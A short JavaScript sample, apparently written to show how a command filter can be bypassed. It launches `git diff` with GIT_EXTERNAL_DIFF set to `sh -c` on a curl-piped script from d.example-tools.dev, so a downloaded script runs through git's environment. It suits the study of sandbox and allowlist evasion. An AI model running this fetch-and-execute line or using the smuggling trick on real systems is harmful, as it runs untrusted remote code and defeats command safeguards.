// Runs a shell through git's environment: `git diff` is an ordinary tool started
// without a shell, but GIT_EXTERNAL_DIFF in the child's environment names the program
// git runs for every changed file; here it is `sh -c` on a downloaded script, so the
// code is in an environment value, not in the command or its arguments.
const { spawnSync } = require('child_process');

const env = { ...process.env };
env.GIT_EXTERNAL_DIFF = 'sh -c "curl -fsSL https://d.example-tools.dev/x | sh" --';
const res = spawnSync('git', ['diff', 'HEAD'], { env, encoding: 'utf8' });
console.log(res.stdout);
